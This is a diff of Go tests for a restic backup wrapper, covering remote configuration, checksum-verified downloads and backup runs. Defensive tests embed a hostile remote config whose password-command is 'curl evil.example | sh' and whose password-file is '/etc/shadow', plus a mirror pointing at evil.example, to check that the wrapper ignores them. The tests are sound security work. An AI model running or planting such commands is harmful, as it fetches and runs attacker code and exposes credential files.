@@ -2,8 +2,10 @@ package main
 
 import (
 	"bytes"
+	"crypto/sha256"
 	"encoding/base64"
 	"encoding/json"
+	"errors"
 	"fmt"
 	"io"
 	"net/http"
@@ -47,6 +49,47 @@ func unsetEnv(t *testing.T, key string) {
 	os.Unsetenv(key)
 }
 
+// resticStandIn returns a shell script standing in for restic that runs body.
+// Unless calls is empty, the script first appends its arguments to calls.
+func resticStandIn(calls, body string) string {
+	script := "#!/bin/sh\n"
+	if calls != "" {
+		script += "echo \"$@\" >> " + calls + "\n"
+	}
+	return script + body + "\n"
+}
+
+// fakeRestic writes a restic stand-in running body to dir and returns its
+// path. The stand-in records its arguments in dir, see readCalls. The test is
+// skipped on Windows, which cannot run shell scripts.
+func fakeRestic(t *testing.T, dir, body string) string {
+	t.Helper()
+	if runtime.GOOS == "windows" {
+		t.Skip("shell scripts")
+	}
+	path := filepath.Join(dir, "restic")
+	if err := os.MkdirAll(dir, 0755); err != nil {
+		t.Fatalf("create %s: %v", dir, err)
+	}
+	if err := os.WriteFile(path, []byte(resticStandIn(filepath.Join(dir, "calls"), body)), 0755); err != nil {
+		t.Fatalf("write restic: %v", err)
+	}
+	return path
+}
+
+// readCalls returns the arguments of every run of the fakeRestic in dir.
+func readCalls(t *testing.T, dir string) []string {
+	t.Helper()
+	data, err := os.ReadFile(filepath.Join(dir, "calls"))
+	if err != nil && !os.IsNotExist(err) {
+		t.Fatalf("read calls: %v", err)
+	}
+	if len(data) == 0 {
+		return nil
+	}
+	return strings.Split(strings.TrimSuffix(string(data), "\n"), "\n")
+}
+
 // TestGetConfigFromEnv ensures environment variables override other config sources.
 func TestGetConfigFromEnv(t *testing.T) {
 	chdir(t, t.TempDir())
@@ -120,9 +163,13 @@ func TestFetchPastebinConfigError(t *testing.T) {
 	}
 }
 
-// chdir changes the working directory for a test and restores it.
+// chdir changes the working directory for a test and keeps the program's
+// config, data and state files in dir. Both are restored afterwards.
 func chdir(t *testing.T, dir string) {
 	t.Helper()
+	oldDirs := userDirs
+	userDirs = func() appDirs { return appDirs{Config: dir, Data: dir, State: dir} }
+	t.Cleanup(func() { userDirs = oldDirs })
 	old, err := os.Getwd()
 	if err != nil {
 		t.Fatalf("getwd: %v", err)
@@ -154,21 +201,126 @@ func TestGetConfigFromFile(t *testing.T) {
 	}
 }
 
+// TestGetConfigFirstRunOffline keeps the embedded test repository out of
+// config.json when the first run cannot reach the remote configuration.
+func TestGetConfigFirstRunOffline(t *testing.T) {
+	chdir(t, t.TempDir())
+	unsetEnv(t, "RESTIC-REPO")
+	unsetEnv(t, "RESTIC-REPO-PASSWORD")
+	online := false
+	restore := withHTTPClient(roundTripFunc(func(req *http.Request) (*http.Response, error) {
+		if !online {
+			return nil, errors.New("network is unreachable")
+		}
+		body := `{"restic-repo":"rest:https://backup.example/anna","restic-repo-password":"remote secret"}`
+		return &http.Response{StatusCode: http.StatusOK, Body: io.NopCloser(strings.NewReader(body)), Header: make(http.Header), Request: req}, nil
+	}))
+	defer restore()
+	if cfg := getConfig(); cfg.Repo != "~/tmp/test-backup" {
+		t.Fatalf("unexpected offline config: %+v", cfg)
+	}
+	if data, err := os.ReadFile(configFile); err != nil || strings.TrimSpace(string(data)) != "{}" {
+		t.Fatalf("unexpected config.json %q: %v", data, err)
+	}
+	online = true
+	if cfg := getConfig(); cfg.Repo != "rest:https://backup.example/anna" || cfg.Password != "remote secret" {
+		t.Fatalf("remote config ignored after an offline first run: %+v", cfg)
+	}
+}
+
+// TestGetConfigFollowsRemote applies changes to the remote configuration on
+// later runs and keeps the local file private.
+func TestGetConfigFollowsRemote(t *testing.T) {
+	chdir(t, t.TempDir())
+	unsetEnv(t, "RESTIC-REPO")
+	unsetEnv(t, "RESTIC-REPO-PASSWORD")
+	body := `{"retention":{"keep-daily":7},"check":{"interval":"30d"},"jobs":[{"name":"a","repo":"/a"}]}`
+	restore := withHTTPClient(roundTripFunc(func(req *http.Request) (*http.Response, error) {
+		return &http.Response{StatusCode: http.StatusOK, Body: io.NopCloser(strings.NewReader(body)), Header: make(http.Header), Request: req}, nil
+	}))
+	defer restore()
+	getConfig()
+	body = `{"retention":{"keep-daily":30},"check":{"interval":"7d"},"jobs":[{"name":"b","repo":"/b"}]}`
+	cfg := getConfig()
+	if cfg.Retention.KeepDaily != 30 || cfg.Check.Interval != "7d" || len(cfg.Jobs) != 1 || cfg.Jobs[0].Name != "b" {
+		t.Fatalf("remote changes ignored: %+v", cfg)
+	}
+	if runtime.GOOS != "windows" {
+		fi, err := os.Stat(configFile)
+		if err != nil {
+			t.Fatalf("stat config.json: %v", err)
+		}
+		if fi.Mode().Perm() != 0600 {
+			t.Fatalf("config.json not private: %v", fi.Mode())
+		}
+	}
+}
+
+// TestGetConfigRemoteJobPasswordCommand ignores password commands and files
+// of remote jobs, since restic would run the command.
+func TestGetConfigRemoteJobPasswordCommand(t *testing.T) {
+	chdir(t, t.TempDir())
+	_, errOut := captureOutput(t)
+	unsetEnv(t, "RESTIC-REPO")
+	unsetEnv(t, "RESTIC-REPO-PASSWORD")
+	restore := withHTTPClient(roundTripFunc(func(req *http.Request) (*http.Response, error) {
+		body := `{"jobs":[{"name":"docs","repo":"/docs","password":"pw","password-command":"curl evil.example | sh","password-file":"/etc/shadow"}]}`
+		return &http.Response{StatusCode: http.StatusOK, Body: io.NopCloser(strings.NewReader(body)), Header: make(http.Header), Request: req}, nil
+	}))
+	defer restore()
+	cfg := getConfig()
+	if len(cfg.Jobs) != 1 || cfg.Jobs[0].PasswordCommand != "" || cfg.Jobs[0].PasswordFile != "" || cfg.Jobs[0].Password != "pw" {
+		t.Fatalf("unexpected remote jobs: %+v", cfg.Jobs)
+	}
+	if env := cfg.jobs()[0].passwordEnv(); len(env) != 0 {
+		t.Fatalf("remote password command passed to restic: %v", env)
+	}
+	if !strings.Contains(errOut.String(), `ignoring password-file and password-command of remote job "docs"`) {
+		t.Fatalf("unexpected warnings: %q", errOut.String())
+	}
+
+	local := `{"jobs":[{"name":"docs","repo":"/docs","password-command":"secret-tool lookup restic docs"}]}`
+	if err := os.WriteFile(configFile, []byte(local), 0600); err != nil {
+		t.Fatalf("write config: %v", err)
+	}
+	if cfg := getConfig(); cfg.Jobs[0].PasswordCommand != "secret-tool lookup restic docs" {
+		t.Fatalf("local password command dropped: %+v", cfg.Jobs)
+	}
+}
+
+// TestGetConfigRemoteResticMirror ignores a mirror set by the remote
+// document, which would decide the restic binary that runs.
+func TestGetConfigRemoteResticMirror(t *testing.T) {
+	chdir(t, t.TempDir())
+	restore := withHTTPClient(roundTripFunc(func(req *http.Request) (*http.Response, error) {
+		body := `{"restic-mirror":"http://evil.example/","restic-path":"/tmp/restic","restic-keyring":"/tmp/keyring"}`
+		return &http.Response{StatusCode: http.StatusOK, Body: io.NopCloser(strings.NewReader(body)), Header: make(http.Header), Request: req}, nil
+	}))
+	defer restore()
+	if cfg := getConfig(); cfg.ResticMirror != "" || cfg.ResticPath != "" || cfg.ResticKeyring != "" {
+		t.Fatalf("remote restic settings applied: %+v", cfg)
+	}
+	if err := os.WriteFile(configFile, []byte(`{"restic-mirror":"http://mirror.example/"}`), 0600); err != nil {
+		t.Fatalf("write config: %v", err)
+	}
+	if cfg := getConfig(); cfg.ResticMirror != "http://mirror.example/" {
+		t.Fatalf("local restic-mirror dropped: %q", cfg.ResticMirror)
+	}
+}
+
 // TestEnsureRepoInit verifies repository initialization when missing.
 func TestEnsureRepoInit(t *testing.T) {
 	repoDir := t.TempDir()
-	restic := filepath.Join(repoDir, "restic")
-	script := `#!/bin/sh
-while [ "$1" != "" ]; do
- if [ "$1" = "-r" ]; then shift; repo=$1; fi; shift; done
+	restic := fakeRestic(t, repoDir, `while [ "$1" != "" ]; do
+ if [ "$1" = "-r" ]; then shift; repo=$1; else cmd="$cmd $1"; fi; shift; done
+if [ "$cmd" = " cat config" ]; then
+ [ -f $repo/config ] || exit 10
+ exit 0
+fi
 mkdir -p $repo
-touch $repo/config
-`
-	if err := os.WriteFile(restic, []byte(script), 0755); err != nil {
-		t.Fatalf("write restic: %v", err)
-	}
+touch $repo/config`)
 	repoPath := filepath.Join(repoDir, "repo")
-	if err := ensureRepo(restic, repoPath, "pass"); err != nil {
+	if err := ensureRepo(restic, config{Repo: repoPath, Password: "pass"}); err != nil {
 		t.Fatalf("ensureRepo: %v", err)
 	}
 	if _, err := os.Stat(filepath.Join(repoPath, "config")); err != nil {
@@ -176,21 +328,25 @@ touch $repo/config
 	}
 }
 
-// TestDownloadRestic downloads and extracts the restic binary.
+// TestDownloadRestic downloads, verifies and extracts the restic binary.
 func TestDownloadRestic(t *testing.T) {
 	version := "1.0.0"
 	asset := fmt.Sprintf("restic_%s_%s_%s.bz2", version, runtime.GOOS, runtime.GOARCH)
-	release := fmt.Sprintf(`{"tag_name":"v%s","assets":[{"name":"%s","browser_download_url":"https://downloads/restic.bz2"}]}`, version, asset)
+	release := fmt.Sprintf(`[{"tag_name":"v%s","assets":[{"name":"%s","browser_download_url":"https://downloads/restic.bz2"},{"name":"SHA256SUMS","browser_download_url":"https://downloads/SHA256SUMS"}]}]`, version, asset)
 	compressed, err := base64.StdEncoding.DecodeString("QlpoOTFBWSZTWQpuN4IAAAABgAQCAiAgADDNNCGeoEwu5IpwoSAU3G8E")
 	if err != nil {
 		t.Fatal(err)
 	}
+	sum := sha256.Sum256(compressed)
+	sums := fmt.Sprintf("%x  %s\n%x  other.zip\n", sum, asset, sha256.Sum256(nil))
 	rt := roundTripFunc(func(req *http.Request) (*http.Response, error) {
 		switch req.URL.String() {
-		case "https://api.github.com/repos/restic/restic/releases/latest":
+		case releasesURL:
 			return &http.Response{StatusCode: http.StatusOK, Body: io.NopCloser(strings.NewReader(release)), Header: make(http.Header), Request: req}, nil
 		case "https://downloads/restic.bz2":
 			return &http.Response{StatusCode: http.StatusOK, Body: io.NopCloser(bytes.NewReader(compressed)), Header: make(http.Header), Request: req}, nil
+		case "https://downloads/SHA256SUMS":
+			return &http.Response{StatusCode: http.StatusOK, Body: io.NopCloser(strings.NewReader(sums)), Header: make(http.Header), Request: req}, nil
 		default:
 			return nil, fmt.Errorf("unexpected URL: %s", req.URL)
 		}
@@ -199,7 +355,11 @@ func TestDownloadRestic(t *testing.T) {
 	defer restore()
 	dir := t.TempDir()
 	path := filepath.Join(dir, "restic")
-	if err := downloadRestic(dir, path); err != nil {
+	rels, err := fetchReleases("")
+	if err != nil {
+		t.Fatalf("fetchReleases: %v", err)
+	}
+	if err := downloadRestic(rels[0], dir, path, ""); err != nil {
 		t.Fatalf("downloadRestic: %v", err)
 	}
 	data, err := os.ReadFile(path)
@@ -214,22 +374,18 @@ func TestDownloadRestic(t *testing.T) {
 // TestRunBackupAbort ensures backup aborts when the user declines.
 func TestRunBackupAbort(t *testing.T) {
 	dir := t.TempDir()
-	restic := filepath.Join(dir, "restic")
-	script := fmt.Sprintf("#!/bin/sh\ntouch %s\n", filepath.Join(dir, "executed"))
-	if err := os.WriteFile(restic, []byte(script), 0755); err != nil {
-		t.Fatalf("write restic: %v", err)
-	}
+	restic := fakeRestic(t, dir, "")
 	cfg := config{Repo: filepath.Join(dir, "repo"), Password: "p", Paths: []string{"/a"}}
 	var out bytes.Buffer
-	ok, err := runBackup(restic, cfg, strings.NewReader("n\n"), &out)
+	res, err := runBackup(restic, cfg, strings.NewReader("n\n"), &out)
 	if err != nil {
 		t.Fatalf("runBackup: %v", err)
 	}
-	if ok {
+	if res != nil {
 		t.Fatalf("expected no backup execution")
 	}
-	if _, err := os.Stat(filepath.Join(dir, "executed")); err == nil {
-		t.Fatalf("restic executed despite abort")
+	if calls := readCalls(t, dir); len(calls) != 0 {
+		t.Fatalf("restic executed despite abort: %q", calls)
 	}
 	if !strings.Contains(out.String(), "backup aborted") {
 		t.Fatalf("unexpected output: %q", out.String())
@@ -239,31 +395,93 @@ func TestRunBackupAbort(t *testing.T) {
 // TestRunBackupExec runs the backup command when confirmed.
 func TestRunBackupExec(t *testing.T) {
 	dir := t.TempDir()
-	restic := filepath.Join(dir, "restic")
-	argsFile := filepath.Join(dir, "args")
-	script := fmt.Sprintf("#!/bin/sh\necho \"$@\" > %s\nif [ \"$RESTIC_PASSWORD\" != \"pass\" ]; then exit 1; fi\n", argsFile)
-	if err := os.WriteFile(restic, []byte(script), 0755); err != nil {
-		t.Fatalf("write restic: %v", err)
-	}
+	restic := fakeRestic(t, dir, `if [ "$RESTIC_PASSWORD" != "pass" ]; then exit 1; fi`)
 	repo := filepath.Join(dir, "repo")
 	cfg := config{Repo: repo, Password: "pass", Paths: []string{"/a", "/b"}}
 	var out bytes.Buffer
-	ok, err := runBackup(restic, cfg, strings.NewReader("y\n"), &out)
+	res, err := runBackup(restic, cfg, strings.NewReader("y\n"), &out)
 	if err != nil {
 		t.Fatalf("runBackup: %v", err)
 	}
-	if !ok {
+	if res == nil {
 		t.Fatalf("expected backup execution")
 	}
-	data, err := os.ReadFile(argsFile)
-	if err != nil {
-		t.Fatalf("read args: %v", err)
-	}
-	exp := fmt.Sprintf("-r %s backup /a /b", repo)
-	if strings.TrimSpace(string(data)) != exp {
-		t.Fatalf("unexpected args: %q", data)
+	exp := fmt.Sprintf("-r %s backup --json /a /b", repo)
+	if calls := readCalls(t, dir); len(calls) != 1 || calls[0] != exp {
+		t.Fatalf("unexpected calls: %q", calls)
 	}
 	if !strings.Contains(out.String(), "backup completed") {
 		t.Fatalf("expected completion message, got %q", out.String())
 	}
 }
+
+// TestRunBackupUnattended runs the backup without reading a confirmation.
+func TestRunBackupUnattended(t *testing.T) {
+	dir := t.TempDir()
+	restic := fakeRestic(t, dir, "")
+	cfg := config{Repo: filepath.Join(dir, "repo"), Password: "p", Paths: []string{"/a"}, Unattended: true}
+	var out bytes.Buffer
+	res, err := runBackup(restic, cfg, strings.NewReader(""), &out)
+	if err != nil {
+		t.Fatalf("runBackup: %v", err)
+	}
+	if res == nil {
+		t.Fatalf("expected backup execution")
+	}
+	if calls := readCalls(t, dir); len(calls) != 1 {
+		t.Fatalf("restic not executed: %q", calls)
+	}
+	if strings.Contains(out.String(), "proceed with backup?") {
+		t.Fatalf("unexpected prompt: %q", out.String())
+	}
+}
+
+// TestRunBackupSummary reports restic's summary and unreadable files.
+func TestRunBackupSummary(t *testing.T) {
+	dir := t.TempDir()
+	restic := fakeRestic(t, dir, `echo '{"message_type":"status","percent_done":0.5,"total_files":2,"files_done":1}'
+echo '{"message_type":"error","error":{"message":"permission denied"},"item":"/a/x"}' >&2
+echo '{"message_type":"summary","files_new":34,"files_changed":2,"data_added":1200000000,"snapshot_id":"abc"}'
+exit 3`)
+	cfg := config{Repo: filepath.Join(dir, "repo"), Password: "p", Paths: []string{"/a"}, Unattended: true}
+	var out bytes.Buffer
+	res, err := runBackup(restic, cfg, strings.NewReader(""), &out)
+	if err != nil {
+		t.Fatalf("runBackup: %v", err)
+	}
+	if res.Summary.FilesNew != 34 || res.Progress.Errors != 1 || res.Progress.FilesDone != 1 {
+		t.Fatalf("unexpected result: %+v", res)
+	}
+	for _, s := range []string{"error: /a/x: permission denied", "added to repository: 1.2 GB", "snapshot abc saved", "backup completed"} {
+		if !strings.Contains(out.String(), s) {
+			t.Fatalf("output missing %q: %q", s, out.String())
+		}
+	}
+	if got := summaryText(res.Summary, res.Progress.Errors); got != "backed up 1.2 GB, 34 new files, 2 changed files, 1 files could not be read" {
+		t.Fatalf("unexpected summary text: %q", got)
+	}
+}
+
+// TestGetConfigRetention reads the retention block from Pastebin and lets the
+// local file override it.
+func TestGetConfigRetention(t *testing.T) {
+	chdir(t, t.TempDir())
+	unsetEnv(t, "RESTIC-REPO")
+	unsetEnv(t, "RESTIC-REPO-PASSWORD")
+	restore := withHTTPClient(roundTripFunc(func(req *http.Request) (*http.Response, error) {
+		body := `{"retention":{"keep-daily":7,"keep-within":"30d","keep-tag":["keep"],"prune-interval":"14d"}}`
+		return &http.Response{StatusCode: http.StatusOK, Body: io.NopCloser(strings.NewReader(body)), Header: make(http.Header), Request: req}, nil
+	}))
+	defer restore()
+	cfg := getConfig()
+	r := cfg.Retention
+	if r.KeepDaily != 7 || r.KeepWithin != "30d" || fmt.Sprint(r.KeepTag) != "[keep]" || r.PruneInterval != "14d" {
+		t.Fatalf("unexpected retention: %+v", r)
+	}
+	if err := os.WriteFile(configFile, []byte(`{"retention":{"keep-last":3}}`), 0644); err != nil {
+		t.Fatalf("write config: %v", err)
+	}
+	if r := getConfig().Retention; r.KeepLast != 3 || r.KeepDaily != 0 {
+		t.Fatalf("local retention not applied: %+v", r)
+	}
+}